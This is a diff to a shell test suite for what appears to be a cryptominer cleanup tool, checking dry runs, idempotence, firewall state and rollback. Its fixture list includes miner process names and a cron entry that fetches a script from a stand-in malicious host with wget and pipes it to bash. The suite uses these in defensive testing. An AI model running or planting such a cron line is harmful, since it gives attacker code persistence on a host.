@@ -93,7 +93,7 @@ for target in xmrig kdevtmpfsi kthreadd /usr/local/bin/xmrig /tmp/malicious.sh /
 	'-*/5 \* \* \* \* wget -qO- http://malicious-site.example/m.sh | bash'; do
 	check "dry run: shows $target" grep -qe "${target//\*\/5/\\*/5}" <<<"$output"
 done
-run_respond "${miner[@]}" --dry-run --format json
+run_json "${miner[@]}" --dry-run
 same "dry run: the same for machines" 5 $status
 printf '%s\n' "$output" >$work/plan
 same "dry run: every file is as it was" "$everything" "$(every_file)"
@@ -140,7 +140,7 @@ check_not "run: root's attacker cannot log in" root_can_log_in attacker
 same "run: the foreign table is as it was" "$firewall" "$(nft -s list table inet firewalld)"
 
 run=$(last_run)
-run_respond --show "$run" --format json
+run_json --show "$run"
 printf '%s\n' "$output" >$work/journal
 not_processes() {
 	grep -vE '^(kill|stop|freeze|destroy|end) ' | sort
@@ -150,12 +150,12 @@ same "run: the journal says what the dry run said" "$(json 'plan.steps.*.changes
 
 # ---- run again -----------------------------------------------------------------------
 
-after=$(describe_files --times /etc /root/.ssh /usr/local /var/spool/cron /tmp)
+after=$(describe_files --times /etc /root/.ssh /usr/local/bin /var/spool/cron /tmp)
 rules=$(firewall)
 runs=$(respond --list --format json)
 run_respond "${miner[@]}"
 same "again: nothing to do" 0 $status
-same "again: no file was touched" "$after" "$(describe_files --times /etc /root/.ssh /usr/local /var/spool/cron /tmp)"
+same "again: no file was touched" "$after" "$(describe_files --times /etc /root/.ssh /usr/local/bin /var/spool/cron /tmp)"
 same "again: the firewall is as it was" "$rules" "$(firewall)"
 same "again: no new run" "$runs" "$(respond --list --format json)"
 run_respond "${miner[@]}" --dry-run
@@ -165,7 +165,7 @@ same "again: a dry run finds nothing either" 0 $status
 
 after=$(every_file)
 run_respond --rollback "$run" --dry-run
-same "rollback, dry run: changes are pending" 5 $status
+same "rollback, dry run: not everything can be undone" 3 $status
 same "rollback, dry run: every file is as it was" "$after" "$(every_file)"
 
 run_respond --rollback "$run"
